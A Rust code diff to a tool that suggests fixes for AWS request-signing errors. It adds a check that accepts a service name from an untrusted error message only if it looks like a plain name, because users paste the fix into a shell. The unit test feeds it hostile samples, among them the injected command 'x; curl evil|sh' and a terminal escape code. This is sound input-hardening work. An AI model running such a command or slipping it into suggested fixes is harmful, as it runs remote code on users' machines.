@@ -46,11 +46,19 @@ pub(super) fn of_cause(
                            other programs accept them, a proxy between countersign and AWS changes the request."
             .to_owned(),
         "wrong-service" => {
-            let expected = message.split('\'').nth(1).unwrap_or("NAME");
+            let expected = expected_service(message).unwrap_or("NAME");
             format!("It is signed for {:?}. Use the API's service: --service {expected}", scope.service)
         }
         _ => return None,
     })
+}
+
+/// Returns the service that AWS expects. The text is not trusted, and users paste the fix into a shell.
+fn expected_service(message: &str) -> Option<&str> {
+    let is_part = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
+    let quoted = message.split('\'').nth(1)?;
+    let is_name = (1..=40).contains(&quoted.len()) && quoted.bytes().all(is_part);
+    is_name.then_some(quoted)
 }
 
 /// Returns the fix for a path where nothing is.
@@ -129,5 +137,21 @@ fn grant(endpoint: &Endpoint, fields: &[String]) -> String {
         UpstreamKind::Http => {
             format!("Allow the action of {service} on this resource in a policy of the identity.")
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_the_name_of_a_service_is_taken_from_a_text() {
+        let text =
+            |name: &str| format!("Credential should be scoped to correct service: '{name}'.");
+        assert_eq!(expected_service(&text("execute-api")), Some("execute-api"));
+        for other in ["", "\u{1b}[31m", "x; curl evil|sh", "X", &"a".repeat(41)] {
+            assert_eq!(expected_service(&text(other)), None, "{other:?}");
+        }
+        assert_eq!(expected_service("none"), None);
     }
 }
